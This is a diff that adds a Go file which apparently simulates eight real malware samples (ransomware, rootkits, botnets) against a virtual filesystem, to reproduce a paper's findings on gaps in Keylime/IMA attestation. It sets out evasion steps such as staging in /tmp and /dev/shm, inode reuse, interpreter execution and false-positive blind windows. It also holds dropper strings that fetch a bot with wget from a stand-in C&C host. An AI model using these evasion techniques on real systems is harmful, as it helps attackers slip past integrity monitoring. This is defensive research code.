@@ -1,0 +1,436 @@
+package attacks
+
+import (
+	"fmt"
+
+	"repro/internal/vfs"
+)
+
+// This file defines the eight samples of Table II. Step plans are distilled
+// from each sample's real deployment behaviour (documented per attack); the
+// adaptive variants wire in the specific problems the paper reports the
+// sample can exploit.
+
+// execArtifact drops an executable artifact and runs it.
+func execArtifact(e *Env, path string, content string) error {
+	if err := e.drop(path, []byte(content), vfs.ModeExecutable); err != nil {
+		return err
+	}
+	return e.M.Exec(path)
+}
+
+// AvosLocker is a ransomware family distributed as a single ELF binary: it
+// is dropped, executed, and encrypts files in place. It ships no scripts,
+// so P5 does not apply to it.
+func avosLocker() *Attack {
+	encrypt := func(e *Env, binary string) error {
+		// Encrypt a swath of data files (writes are invisible to IMA's
+		// exec-focused policy; only the binary's execution is attestable).
+		n := 0
+		var victims []string
+		err := e.M.FS().Walk("/usr/share", func(info vfs.FileInfo) error {
+			if info.Mode.IsExec() || n >= 25 {
+				return nil
+			}
+			victims = append(victims, info.Path)
+			n++
+			return nil
+		})
+		if err != nil {
+			return fmt.Errorf("attacks: scanning victims: %w", err)
+		}
+		for _, v := range victims {
+			if err := e.M.WriteFile(v+".avos", []byte("ENCRYPTED:"+v), vfs.ModeRegular); err != nil {
+				return fmt.Errorf("attacks: encrypting %s: %w", v, err)
+			}
+			if err := e.M.FS().Remove(v); err != nil {
+				return fmt.Errorf("attacks: removing plaintext %s: %w", v, err)
+			}
+		}
+		_ = binary
+		return nil
+	}
+	return &Attack{
+		Name:     "AvosLocker",
+		Category: CategoryRansomware,
+		Exploits: []Problem{P1UnmonitoredDirectories, P2IncompleteAttestationLog, P3UnmonitoredFilesystems, P4NoReEvaluation},
+		basic: []Step{
+			{Name: "drop binary in /usr/local/bin", Do: func(e *Env) error {
+				return e.drop("/usr/local/bin/avoslocker", []byte("\x7fELF avoslocker"), vfs.ModeExecutable)
+			}},
+			{Name: "execute and encrypt", Final: true, Do: func(e *Env) error {
+				if err := e.M.Exec("/usr/local/bin/avoslocker"); err != nil {
+					return err
+				}
+				return encrypt(e, "/usr/local/bin/avoslocker")
+			}},
+		},
+		adaptive: []Step{
+			{Name: "stage binary in /tmp (P1: Keylime excludes it)", Do: func(e *Env) error {
+				return e.drop("/tmp/avoslocker", []byte("\x7fELF avoslocker"), vfs.ModeExecutable)
+			}},
+			{Name: "execute from /tmp and encrypt", Final: true, Do: func(e *Env) error {
+				if err := e.M.Exec("/tmp/avoslocker"); err != nil {
+					return err
+				}
+				return encrypt(e, "/tmp/avoslocker")
+			}},
+		},
+	}
+}
+
+// Diamorphine is a classic loadable-kernel-module rootkit: its deployment
+// compiles the module with make/gcc and loads it with insmod.
+func diamorphine() *Attack {
+	a := &Attack{
+		Name:     "Diamorphine",
+		Category: CategoryRootkit,
+		Exploits: []Problem{P1UnmonitoredDirectories, P2IncompleteAttestationLog, P3UnmonitoredFilesystems, P4NoReEvaluation, P5ScriptInterpreters},
+	}
+	a.basic = []Step{
+		{Name: "unpack source and compile", Do: func(e *Env) error {
+			if err := e.drop("/usr/src/diamorphine/diamorphine.c", []byte("// rootkit source"), vfs.ModeRegular); err != nil {
+				return err
+			}
+			if err := e.M.Exec(MakePath); err != nil {
+				return err
+			}
+			if err := e.M.Exec(GCCPath); err != nil {
+				return err
+			}
+			kver := e.M.RunningKernel()
+			return e.drop("/usr/lib/modules/"+kver+"/diamorphine.ko", []byte("ELF-ko diamorphine"), vfs.ModeRegular)
+		}},
+		{Name: "insmod diamorphine.ko", Final: true, Do: func(e *Env) error {
+			return e.M.LoadModule("/usr/lib/modules/" + e.M.RunningKernel() + "/diamorphine.ko")
+		}},
+	}
+	a.adaptive = []Step{
+		{Name: "build in /tmp working directory", Do: func(e *Env) error {
+			if err := e.drop("/tmp/diamorphine/diamorphine.c", []byte("// rootkit source"), vfs.ModeRegular); err != nil {
+				return err
+			}
+			if err := e.M.Exec(MakePath); err != nil {
+				return err
+			}
+			if err := e.M.Exec(GCCPath); err != nil {
+				return err
+			}
+			return e.drop("/tmp/diamorphine/diamorphine.ko", []byte("ELF-ko diamorphine"), vfs.ModeRegular)
+		}},
+		{Name: "test installer in /tmp (measured under excluded path)", Do: func(e *Env) error {
+			if err := e.drop("/tmp/diamorphine/install", []byte("\x7fELF installer"), vfs.ModeExecutable); err != nil {
+				return err
+			}
+			return e.M.Exec("/tmp/diamorphine/install")
+		}},
+		{Name: "move installer to /usr/bin (P4: same inode, no re-measure)", Do: func(e *Env) error {
+			if err := e.move("/tmp/diamorphine/install", "/usr/bin/kworker-helper"); err != nil {
+				return err
+			}
+			return e.M.Exec("/usr/bin/kworker-helper")
+		}},
+		{Name: "insmod from /tmp (P1: path excluded by Keylime)", Final: true, Do: func(e *Env) error {
+			return e.M.LoadModule("/tmp/diamorphine/diamorphine.ko")
+		}},
+	}
+	a.reactivate = func(e *Env) error {
+		// systemd module autoload reloads the rootkit at boot from its
+		// persistent copy; the /tmp copy is gone after reboot, so the
+		// module is reinstalled to the modules tree first.
+		kver := e.M.RunningKernel()
+		target := "/usr/lib/modules/" + kver + "/diamorphine.ko"
+		if !e.M.FS().Exists(target) {
+			if err := e.drop(target, []byte("ELF-ko diamorphine"), vfs.ModeRegular); err != nil {
+				return err
+			}
+		}
+		return e.M.LoadModule(target)
+	}
+	return a
+}
+
+// Reptile is an LKM rootkit with a user-space control client. Its adaptive
+// variant demonstrates P2: trigger a benign false positive to halt the
+// verifier, then install inside the blind window.
+func reptile() *Attack {
+	a := &Attack{
+		Name:     "Reptile",
+		Category: CategoryRootkit,
+		Exploits: []Problem{P1UnmonitoredDirectories, P2IncompleteAttestationLog, P3UnmonitoredFilesystems, P5ScriptInterpreters},
+	}
+	install := func(e *Env) error {
+		kver := e.M.RunningKernel()
+		if err := e.drop("/usr/lib/modules/"+kver+"/reptile.ko", []byte("ELF-ko reptile"), vfs.ModeRegular); err != nil {
+			return err
+		}
+		if err := e.M.LoadModule("/usr/lib/modules/" + kver + "/reptile.ko"); err != nil {
+			return err
+		}
+		return execArtifact(e, "/usr/local/bin/reptile_cmd", "\x7fELF reptile client")
+	}
+	a.basic = []Step{
+		{Name: "compile", Do: func(e *Env) error {
+			if err := e.M.Exec(MakePath); err != nil {
+				return err
+			}
+			return e.M.Exec(GCCPath)
+		}},
+		{Name: "install module and control client", Final: true, Do: install},
+	}
+	a.adaptive = []Step{
+		{Name: "trigger benign false positive (P2: verifier halts)", Do: func(e *Env) error {
+			return e.triggerBenignFP()
+		}},
+		{Name: "install module and client inside the blind window", Final: true, Do: install},
+	}
+	a.reactivate = func(e *Env) error {
+		return e.M.LoadModule("/usr/lib/modules/" + e.M.RunningKernel() + "/reptile.ko")
+	}
+	return a
+}
+
+// Vlany is an LD_PRELOAD rootkit: a shared object injected into every
+// process via /etc/ld.so.preload. Injection happens through FILE_MMAP.
+func vlany() *Attack {
+	a := &Attack{
+		Name:     "Vlany",
+		Category: CategoryRootkit,
+		Exploits: []Problem{P1UnmonitoredDirectories, P2IncompleteAttestationLog, P3UnmonitoredFilesystems, P4NoReEvaluation, P5ScriptInterpreters},
+	}
+	a.basic = []Step{
+		{Name: "install shared object", Do: func(e *Env) error {
+			return e.drop("/usr/lib/vlany.so", []byte("ELF-so vlany"), vfs.ModeExecutable)
+		}},
+		{Name: "register in ld.so.preload and inject", Final: true, Do: func(e *Env) error {
+			if err := e.M.WriteFile("/etc/ld.so.preload", []byte("/usr/lib/vlany.so\n"), vfs.ModeRegular); err != nil {
+				return err
+			}
+			return e.M.MmapExec("/usr/lib/vlany.so")
+		}},
+	}
+	a.adaptive = []Step{
+		{Name: "stage shared object in /tmp", Do: func(e *Env) error {
+			return e.drop("/tmp/vlany.so", []byte("ELF-so vlany"), vfs.ModeExecutable)
+		}},
+		{Name: "test-inject from /tmp (measured under excluded path)", Do: func(e *Env) error {
+			return e.M.MmapExec("/tmp/vlany.so")
+		}},
+		{Name: "move to /usr/lib and inject (P4: no re-measurement)", Do: func(e *Env) error {
+			if err := e.move("/tmp/vlany.so", "/usr/lib/vlany.so"); err != nil {
+				return err
+			}
+			if err := e.M.WriteFile("/etc/ld.so.preload", []byte("/usr/lib/vlany.so\n"), vfs.ModeRegular); err != nil {
+				return err
+			}
+			return e.M.MmapExec("/usr/lib/vlany.so")
+		}},
+		{Name: "hide library and clean traces", Final: true, Do: func(e *Env) error {
+			// Userland hiding via the preloaded hooks; no new executions.
+			return e.M.OpenRead("/etc/ld.so.preload")
+		}},
+	}
+	a.reactivate = func(e *Env) error {
+		// Every process start re-mmaps the preloaded object.
+		return e.M.MmapExec("/usr/lib/vlany.so")
+	}
+	return a
+}
+
+// Mirai drops a bot binary and phones home; its loaders conventionally work
+// out of world-writable scratch space.
+func mirai() *Attack {
+	a := &Attack{
+		Name:     "Mirai",
+		Category: CategoryBotnetCC,
+		Exploits: []Problem{P1UnmonitoredDirectories, P2IncompleteAttestationLog, P3UnmonitoredFilesystems, P5ScriptInterpreters},
+	}
+	a.basic = []Step{
+		{Name: "download bot to /usr/local/bin", Do: func(e *Env) error {
+			return e.drop("/usr/local/bin/mirai", []byte("\x7fELF mirai"), vfs.ModeExecutable)
+		}},
+		{Name: "start bot and connect to C&C", Final: true, Do: func(e *Env) error {
+			if err := e.M.Exec("/usr/local/bin/mirai"); err != nil {
+				return err
+			}
+			return e.M.WriteFile("/etc/rc.local", []byte("#!/bin/sh\n/usr/local/bin/mirai &\n"), vfs.ModeExecutable)
+		}},
+	}
+	a.adaptive = []Step{
+		{Name: "stage bot on tmpfs (P3: IMA ignores /dev/shm)", Do: func(e *Env) error {
+			return e.drop("/dev/shm/mirai", []byte("\x7fELF mirai"), vfs.ModeExecutable)
+		}},
+		{Name: "start bot from tmpfs", Final: true, Do: func(e *Env) error {
+			return e.M.Exec("/dev/shm/mirai")
+		}},
+	}
+	a.reactivate = func(e *Env) error {
+		// Basic variant persists via rc.local; the tmpfs copy of the
+		// adaptive variant is wiped at reboot.
+		if e.M.FS().Exists("/usr/local/bin/mirai") {
+			return e.M.Exec("/usr/local/bin/mirai")
+		}
+		return ErrNoPersistence
+	}
+	return a
+}
+
+// BASHLITE (a.k.a. Gafgyt) deploys through shell droppers that fetch and
+// start compiled bot binaries.
+func bashlite() *Attack {
+	a := &Attack{
+		Name:     "BASHLITE",
+		Category: CategoryBotnetCC,
+		Exploits: []Problem{P1UnmonitoredDirectories, P2IncompleteAttestationLog, P3UnmonitoredFilesystems, P5ScriptInterpreters},
+	}
+	a.basic = []Step{
+		{Name: "drop dropper script", Do: func(e *Env) error {
+			return e.drop("/usr/local/bin/bashlite.sh", []byte("#!/bin/sh\nwget http://cc/bot\n"), vfs.ModeExecutable)
+		}},
+		{Name: "run dropper directly (shebang) and start bot", Final: true, Do: func(e *Env) error {
+			if err := e.M.Exec("/usr/local/bin/bashlite.sh"); err != nil {
+				return err
+			}
+			return execArtifact(e, "/usr/local/bin/bashlite_bot", "\x7fELF gafgyt bot")
+		}},
+	}
+	a.adaptive = []Step{
+		{Name: "stage dropper in /tmp without exec bit", Do: func(e *Env) error {
+			return e.drop("/tmp/.bashlite.sh", []byte("wget http://cc/bot"), vfs.ModeRegular)
+		}},
+		{Name: "run dropper via interpreter (P5: only /bin/sh attested)", Do: func(e *Env) error {
+			return e.M.ExecInterpreter(ShellPath, "/tmp/.bashlite.sh")
+		}},
+		{Name: "start bot from tmpfs (P3)", Final: true, Do: func(e *Env) error {
+			if err := e.drop("/dev/shm/.bashlite_bot", []byte("\x7fELF gafgyt bot"), vfs.ModeExecutable); err != nil {
+				return err
+			}
+			return e.M.Exec("/dev/shm/.bashlite_bot")
+		}},
+	}
+	a.reactivate = func(e *Env) error {
+		if e.M.FS().Exists("/usr/local/bin/bashlite_bot") {
+			return e.M.Exec("/usr/local/bin/bashlite_bot")
+		}
+		return ErrNoPersistence
+	}
+	return a
+}
+
+// Mortem-qBot's deployment script famously uses /tmp as its working
+// directory — the sample through which the paper discovered P1.
+func mortemQBot() *Attack {
+	a := &Attack{
+		Name:     "Mortem-qBot",
+		Category: CategoryBotnetCC,
+		Exploits: []Problem{P1UnmonitoredDirectories, P2IncompleteAttestationLog, P3UnmonitoredFilesystems, P4NoReEvaluation, P5ScriptInterpreters},
+	}
+	a.basic = []Step{
+		{Name: "deploy script decompresses and compiles in /tmp", Do: func(e *Env) error {
+			if err := e.drop("/tmp/qbot-src.tar.gz", []byte("tarball"), vfs.ModeRegular); err != nil {
+				return err
+			}
+			if err := e.M.Exec(GCCPath); err != nil {
+				return err
+			}
+			return e.drop("/tmp/qbot", []byte("\x7fELF qbot"), vfs.ModeExecutable)
+		}},
+		{Name: "install bot to /usr/local/bin and start", Final: true, Do: func(e *Env) error {
+			// The basic attacker copies (not moves) the build output: a
+			// fresh file with a fresh inode, measured at exec.
+			if err := e.drop("/usr/local/bin/qbot", []byte("\x7fELF qbot"), vfs.ModeExecutable); err != nil {
+				return err
+			}
+			return e.M.Exec("/usr/local/bin/qbot")
+		}},
+	}
+	a.adaptive = []Step{
+		{Name: "build and test-run in /tmp (measured under excluded path)", Do: func(e *Env) error {
+			if err := e.drop("/tmp/qbot", []byte("\x7fELF qbot"), vfs.ModeExecutable); err != nil {
+				return err
+			}
+			return e.M.Exec("/tmp/qbot")
+		}},
+		{Name: "mv to /usr/local/bin and start (P4: inode already cached)", Final: true, Do: func(e *Env) error {
+			if err := e.move("/tmp/qbot", "/usr/local/bin/qbot"); err != nil {
+				return err
+			}
+			return e.M.Exec("/usr/local/bin/qbot")
+		}},
+	}
+	a.reactivate = func(e *Env) error {
+		if e.M.FS().Exists("/usr/local/bin/qbot") {
+			return e.M.Exec("/usr/local/bin/qbot")
+		}
+		return ErrNoPersistence
+	}
+	return a
+}
+
+// Aoyama is a botnet client implemented entirely in Python: there is no
+// compiled payload to attest, so P5 applies to its whole lifecycle.
+func aoyama() *Attack {
+	a := &Attack{
+		Name:            "Aoyama",
+		Category:        CategoryBotnetCC,
+		Exploits:        []Problem{P1UnmonitoredDirectories, P2IncompleteAttestationLog, P3UnmonitoredFilesystems, P5ScriptInterpreters},
+		PureInterpreter: true,
+	}
+	a.basic = []Step{
+		{Name: "install bot script with exec bit", Do: func(e *Env) error {
+			return e.drop("/usr/local/bin/aoyama.py", []byte("#!/usr/bin/python3\nimport socket\n"), vfs.ModeExecutable)
+		}},
+		{Name: "run script directly (shebang: script is attested)", Final: true, Do: func(e *Env) error {
+			return e.M.Exec("/usr/local/bin/aoyama.py")
+		}},
+	}
+	a.adaptive = []Step{
+		{Name: "stage script in /tmp without exec bit", Do: func(e *Env) error {
+			return e.drop("/tmp/.aoyama.py", []byte("import socket"), vfs.ModeRegular)
+		}},
+		{Name: "run via python3 (P5: only the interpreter is attested)", Do: func(e *Env) error {
+			return e.M.ExecInterpreter(PythonPath, "/tmp/.aoyama.py")
+		}},
+		{Name: "persist via cron entry invoking the interpreter", Final: true, Do: func(e *Env) error {
+			if err := e.drop("/var/spool/cron/aoyama", []byte("@reboot python3 /var/lib/.aoyama.py"), vfs.ModeRegular); err != nil {
+				return err
+			}
+			return e.drop("/var/lib/.aoyama.py", []byte("import socket"), vfs.ModeRegular)
+		}},
+	}
+	a.reactivate = func(e *Env) error {
+		// cron re-launches through the interpreter: still invisible.
+		if e.M.FS().Exists("/var/lib/.aoyama.py") {
+			return e.M.ExecInterpreter(PythonPath, "/var/lib/.aoyama.py")
+		}
+		if e.M.FS().Exists("/usr/local/bin/aoyama.py") {
+			return e.M.Exec("/usr/local/bin/aoyama.py")
+		}
+		return ErrNoPersistence
+	}
+	return a
+}
+
+// All returns the eight samples in the paper's Table II order.
+func All() []*Attack {
+	return []*Attack{
+		avosLocker(),
+		diamorphine(),
+		reptile(),
+		vlany(),
+		mirai(),
+		bashlite(),
+		mortemQBot(),
+		aoyama(),
+	}
+}
+
+// ByName returns one sample.
+func ByName(name string) (*Attack, error) {
+	for _, a := range All() {
+		if a.Name == name {
+			return a, nil
+		}
+	}
+	return nil, fmt.Errorf("attacks: unknown sample %q", name)
+}
